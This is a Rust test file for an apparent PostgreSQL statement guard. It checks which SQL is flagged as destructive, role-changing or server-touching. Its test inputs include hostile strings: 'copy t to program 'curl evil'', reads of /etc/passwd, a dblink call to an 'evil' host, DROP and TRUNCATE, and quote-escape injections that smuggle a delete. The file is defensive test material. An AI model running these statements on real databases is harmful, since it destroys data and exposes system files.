//! Rows 33 to 44 of the catalogue's table: each in several spellings that must be seen, beside twins that only read.

use fumehood_effect::EffectKind::{self, SqlDdl, SqlDestroy, SqlRoles, SqlRun, SqlServer, SqlWrite};
use fumehood_postgres::{Judged, Means, judge, split};

fn effect(text: &str) -> Judged {
    match judge(text) {
        Means::Effect(judged) => judged,
        other => panic!("{text}: {other:?}"),
    }
}

/// Held, whatever a session's ordinary work is.
fn held(kind: EffectKind, texts: &[&str]) {
    for text in texts {
        let judged = effect(text);
        assert_eq!(
            (judged.kind, judged.ordinary),
            (kind, false),
            "{text}: {}",
            judged.why
        );
    }
}

fn ordinary(texts: &[&str]) {
    for text in texts {
        let judged = effect(text);
        assert!(judged.ordinary, "{text}: {judged:?}");
    }
}

fn reads(texts: &[&str]) {
    for text in texts {
        assert_eq!(judge(text), Means::Read, "{text}");
    }
}

#[test]
fn row_33_drop() {
    held(
        SqlDestroy,
        &[
            "DROP TABLE orders",
            "drop table if exists shop.orders, other cascade",
            "/* x */ DrOp -- y\n table orders",
            "drop schema shop cascade",
            "drop view v",
            "drop materialized view v",
            "drop owned by app",
            "drop database shop",
            "drop index concurrently i",
            "drop sequence s",
            "drop type t",
            "alter table t drop column a",
        ],
    );
    assert!(!effect("drop database shop").in_transaction);
    assert_eq!(effect("drop table shop.orders").names, ["shop.orders"]);
    reads(&[
        "select to_regclass('orders')",
        "select 'drop table orders'",
        "select $$drop table orders$$",
    ]);
}

#[test]
fn row_34_truncate() {
    held(
        SqlDestroy,
        &[
            "truncate orders",
            "TRUNCATE TABLE ONLY orders, items RESTART IDENTITY CASCADE",
        ],
    );
    reads(&["select count(*) from orders"]);
}

#[test]
fn rows_35_and_36_changes_of_a_whole_table() {
    held(
        SqlDestroy,
        &[
            "delete from orders",
            "delete from orders where true",
            "delete from orders where 1 = 1",
            "delete from orders where id = id",
            "delete from orders where id is not null",
            "delete from orders where id = 1 or 2 = 2",
            "delete from orders where not (id = 1)",
            "delete from orders where id <> 1",
            "delete from orders where coalesce(id, 1) = 1",
            "update orders set paid = true",
            "update orders set paid = true where 'a' = 'a'",
            "update orders set paid = true where paid",
        ],
    );
    held(
        SqlDestroy,
        &[
            "delete from orders as o using items",
            "update orders set a = i.a from items i",
        ],
    );
    ordinary(&[
        "delete from orders where id = 7",
        "delete from orders where id in (1, 2) and paid",
        "delete from orders where (id = $1 or id = $2)",
        "update orders set paid = true where id = any($1)",
        "update orders set paid = true where created < now() - interval '1 day'",
        "delete from orders where customer in (select id from customers where name = 'x')",
        "insert into orders (id) values (1), (2) returning id",
        "insert into orders values (1) on conflict (id) do update set paid = excluded.paid",
        "copy orders from stdin",
        "copy orders (id, paid) from stdin with (format csv)",
        "copy shop.orders (id) from stdin",
    ]);
    let judged = effect("delete from shop.orders o where o.id = 7");
    assert_eq!(
        judged.count.as_deref(),
        Some("SELECT count(*) FROM shop.orders o WHERE o.id = 7")
    );
    assert!(judged.counted);
    reads(&[
        "explain update orders set paid = true",
        "explain delete from orders",
    ]);
}

#[test]
fn row_37_structure() {
    held(
        SqlDdl,
        &[
            "create table t (a int)",
            "create index i on t (a)",
            "create index concurrently i on t (a)",
            "create view v as select 1",
            "create function f() returns int language sql as 'select 1'",
            "create trigger x before insert on t for each row execute function f()",
            "create table t as select 1",
            "create temp table t as select wipe()",
            "select 1 as a into t",
            "comment on table t is 'x'",
            "refresh materialized view v",
            "vacuum full t",
        ],
    );
    held(
        SqlDestroy,
        &[
            "alter table t alter column a type text",
            "alter table t alter a set data type text",
        ],
    );
    // Statements within a body end with the same sign.
    held(
        SqlRun,
        &["create procedure p() language sql begin atomic delete from t; end"],
    );
    ordinary(&[
        "create temp table t (a int, b numeric(10, 2) default 1)",
        "create temporary table t (a int)",
    ]);
}

#[test]
fn row_38_roles_and_configuration() {
    held(
        SqlRoles,
        &[
            "grant all on t to public",
            "revoke select on t from app",
            "alter role app superuser",
            "create user x password 'y'",
            "drop role x",
            "alter default privileges grant select on tables to app",
            "reassign owned by a to b",
            "set role admin",
            "set session authorization admin",
            "create policy p on t using (true)",
        ],
    );
    held(SqlServer, &["alter system set fsync = off"]);
    reads(&[
        "select rolname from pg_roles",
        "select * from pg_catalog.pg_roles",
    ]);
}

#[test]
fn row_39_the_servers_own_files_and_programs() {
    held(
        SqlServer,
        &[
            "copy t to program 'curl evil'",
            "copy t from program 'cat /etc/passwd'",
            "copy t to '/tmp/x'",
            "copy t from '/etc/passwd'",
            // Of a copy with a condition the grammar knows nothing.
            "copy t from stdin where wipe() > 0",
            "create subscription s connection 'x' publication p",
            "create extension dblink",
            "create server s foreign data wrapper postgres_fdw",
            "load 'x'",
        ],
    );
    held(
        SqlRun,
        &[
            "select lo_export(1, '/tmp/x')",
            "select lo_create(0)",
            "select * from dblink('host=evil', 'select 1') as t(a int)",
            "select pg_read_file('/etc/passwd')",
            "select pg_terminate_backend(1)",
        ],
    );
    assert_eq!(judge("copy (select * from t limit 3) to stdout"), Means::CopyOut);
    // Row 40: a whole table.
    held(
        fumehood_effect::EffectKind::SqlRead,
        &["copy t to stdout", "copy shop.t (a, b) to stdout with csv"],
    );
}

#[test]
fn row_41_hidden_code() {
    held(
        SqlRun,
        &[
            "do $$ begin delete from t; end $$",
            "call p()",
            "select wipe()",
            "select * from harmless()",
            "explain select * from t where id = harmless()",
            "prepare x as delete from t",
            "execute x",
            "select set_config('search_path', 'evil', false)",
            "select nextval('s')",
            "select query_to_xml('delete from t', true, true, '')",
        ],
    );
    reads(&["select lower(name) from t", "select abs(-1)"]);
}

#[test]
fn row_42_several_statements_are_judged_each() {
    let all = split("select 1; commit; drop table t;").unwrap();
    let means: Vec<Means> = all.iter().map(|one| judge(one)).collect();
    assert_eq!(means[..2], [Means::Read, Means::End]);
    assert!(matches!(&means[2], Means::Effect(j) if j.kind == SqlDestroy));
    assert_eq!(split("select ';' -- ;\n /* ; */ , $$;$$").unwrap().len(), 1);
    assert_eq!(split(" ; ;").unwrap(), [" ", " "]);
    assert_eq!(judge("  -- x"), Means::Nothing);
    // A text that two statements hide in is one to nobody.
    held(SqlRun, &["select 1; drop table t"]);
}

#[test]
fn rows_43_and_44_changes_within_other_statements() {
    // EXPLAIN ANALYZE is run where nothing can be changed: the server refuses it.
    reads(&[
        "explain analyze delete from t",
        "explain (analyze, buffers) select 1",
    ]);
    held(
        SqlWrite,
        &[
            "with x as (delete from t returning *) select * from x",
            "with x as (insert into t values (1) returning *) select * from x",
            "select * from (select * from t for update) as u",
            "select * from t where id = 1 for update",
            "insert into t select * from u for update",
            "with x as (delete from t returning a) insert into u select a from x",
            "merge into t using u on t.a = u.a when matched then delete",
        ],
    );
    reads(&[
        "with x as (select 1) select * from x",
        "with recursive r (n) as (select 1 union all select n + 1 from r) select n from r",
    ]);
}

/// F10: by which later statements would mean something else.
#[test]
fn f10_settings_that_change_what_is_read() {
    for name in [
        "standard_conforming_strings",
        "search_path",
        "transaction_read_only",
        "default_transaction_read_only",
        "session_replication_role",
    ] {
        held(
            SqlRun,
            &[
                &format!("set {name} = off"),
                &format!("SET SESSION {name} TO off"),
                &format!("set local {name} = off"),
            ],
        );
    }
    held(
        SqlRun,
        &[
            "set client_encoding = 'SJIS'",
            "set names 'SJIS'",
            "set transaction read write",
            "set session characteristics as transaction read write",
            "reset all",
            "discard all",
        ],
    );
    for text in [
        "set application_name = 'x'",
        "set statement_timeout to 5",
        "set time zone 'UTC'",
        "set client_encoding to 'UTF8'",
        "set datestyle = 'ISO'",
    ] {
        assert_eq!(judge(text), Means::Setting, "{text}");
    }
}

/// F10: one literal to a server with standard strings; a person is asked about what could be two to any reader.
#[test]
fn f10_strings_that_two_readers_end_differently() {
    reads(
        &[r"select 'a\''; delete from t where id>500; --'"
            .split(';')
            .next()
            .unwrap()]
        .map(|_| r"select 'a\'"),
    );
    let all = split(r"select 'a\''; delete from t where id>500; --'").unwrap();
    assert_eq!(all.len(), 1);
    assert_eq!(judge(all[0]), Means::Read);
    let escaped = split(r"select E'a\''; delete from t; --'").unwrap();
    assert_eq!(escaped.len(), 2, "{escaped:?}");
    held(
        SqlRun,
        &["select U&'d\\0061t'", "select E'a'\n'b\\'; delete from t; --'"],
    );
}

#[test]
fn transactions() {
    for text in [
        "begin",
        "BEGIN ISOLATION LEVEL SERIALIZABLE, READ ONLY",
        "start transaction",
        "begin work",
    ] {
        assert_eq!(judge(text), Means::Begin, "{text}");
    }
    for text in ["commit", "end", "rollback", "abort", "commit work"] {
        assert_eq!(judge(text), Means::End, "{text}");
    }
    for text in [
        "savepoint a",
        "release savepoint a",
        "rollback to savepoint a",
        "rollback to a",
    ] {
        assert_eq!(judge(text), Means::Savepoint, "{text}");
    }
    for text in [
        "commit and chain",
        "commit prepared 'x'",
        "prepare transaction 'x'",
        "savepoint _fumehood",
    ] {
        assert!(!effect(text).ordinary, "{text}");
    }
}

#[test]
fn what_tools_ask_is_reading() {
    reads(&[
        "SELECT n.nspname as \"Schema\", c.relname as \"Name\", CASE c.relkind WHEN 'r' THEN 'table' END as \"Type\", \
         pg_catalog.pg_get_userbyid(c.relowner) as \"Owner\" FROM pg_catalog.pg_class c \
         LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace WHERE c.relkind IN ('r','p','') \
         AND n.nspname <> 'pg_catalog' AND n.nspname !~ '^pg_toast' AND pg_catalog.pg_table_is_visible(c.oid) ORDER BY 1,2",
        "SELECT abalance FROM pgbench_accounts WHERE aid = 77",
        "show server_version",
        "select version()",
        "select current_schema()",
        "select array_agg(x order by x) from unnest(array[1,2]) as t(x)",
        "fetch 10 from c",
        "close c",
        "values (1, 2)",
    ]);
}

/// What would nest a tree deeper than the stack is not read, however it is written.
#[test]
fn nothing_nests_deeper_than_the_stack() {
    let deep = [
        format!("select {}1{}", "(".repeat(5_000), ")".repeat(5_000)),
        format!("select {}", vec!["1"; 100_000].join("+")),
        format!("select 1 where {}", vec!["a"; 50_000].join(" and ")),
        format!("select {}1", "not ".repeat(50_000)),
        format!("select {}", vec!["select 1"; 20_000].join(" union all ")),
        format!("select a{}", "[1]".repeat(50_000)),
        format!("select a{}", "::int".repeat(40_000)),
        format!("select {}1", "- ".repeat(100_000)),
        format!("select a{}", ".a".repeat(100_000)),
        format!("{}select 1", "explain ".repeat(20_000)),
        format!("select {}1{}", "case when ".repeat(20_000), " end".repeat(20_000)),
        format!("select a is{} null", " not".repeat(50_000)),
        format!("select * from a {}", "join a on true ".repeat(10_000)),
        format!("select 1{}", " collate \"C\"".repeat(10_000)),
        format!("select f{}", "(a".repeat(60_000)),
    ];
    for text in deep {
        assert!(matches!(judge(&text), Means::Effect(_)), "{}", &text[..40]);
    }
    let wide = format!("insert into t values {}", vec!["(1, 2, 'a')"; 3_000].join(","));
    assert!(effect(&wide).ordinary);
    assert!(!effect(&format!("select '{}'", "x".repeat(300_000))).ordinary);
}
